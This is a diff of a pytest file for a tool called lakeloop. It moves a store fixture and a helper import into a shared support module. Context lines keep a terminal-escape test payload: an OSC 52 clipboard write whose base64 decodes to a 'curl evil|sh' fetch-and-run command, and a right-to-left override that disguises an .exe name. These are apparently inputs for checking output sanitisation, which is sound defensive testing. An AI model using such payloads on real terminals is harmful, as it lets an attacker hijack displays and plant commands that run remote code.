@@ -33,7 +33,6 @@ from pathlib import Path
 
 import pytest
 
-from conftest import wait_until
 from lakeloop import paths
 from lakeloop.cli.main import main
 from lakeloop.store import open_store
@@ -42,6 +41,7 @@ from lakeloop.store.memory_types import MemoryQuery, NoteRow
 from lakeloop.textsafe import UNSAFE as TEXTSAFE
 from tests.support.fixtures import deeplake, postgres_cluster  # noqa: F401
 from tests.support.hooks import SESSION_ID, pretooluse_payload, recorded, run_hook, run_pretooluse
+from tests.support.stores import store_kind, wait_until  # noqa: F401
 
 ATTACK = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07"
 PROMPT = f"walrus deploy {ATTACK} then \u202egnp.exe\u202c with C1 \x9b31m and DEL \x7f end"
@@ -67,24 +67,6 @@ def assert_clean(shown: str | bytes, where: str) -> str:
     around = text[max(0, bad.start() - 60):bad.start() + 20] if bad else ""
     assert bad is None, f"{where}: raw {bad.group()!r} at {bad.start()}: {around!r}"
     return text
-
-
-@pytest.fixture(params=["embedded", "deeplake"])
-def store_kind(request, monkeypatch):
-    """The store in turn, for this process and the hooks it starts."""
-    if request.param == "deeplake":
-        standin = request.getfixturevalue("deeplake")
-        for key, value in (("TOKEN", standin.token), ("ORG_ID", standin.org_id), ("ORG_NAME", "acme"),
-                           ("WORKSPACE", standin.workspace), ("API_URL", standin.base_url)):
-            monkeypatch.setenv(f"LAKELOOP_DEEPLAKE_{key}", value)
-        monkeypatch.setenv("LAKELOOP_STORE", "deeplake")
-        import lakeloop.deeplake.client as client_module
-
-        monkeypatch.setattr(client_module, "_shared", None)
-    else:
-        monkeypatch.setenv("LAKELOOP_STORE", "embedded")
-    monkeypatch.setenv("LAKELOOP_DRAIN_LINGER_S", "0")
-    return request.param
 
 
 @pytest.fixture
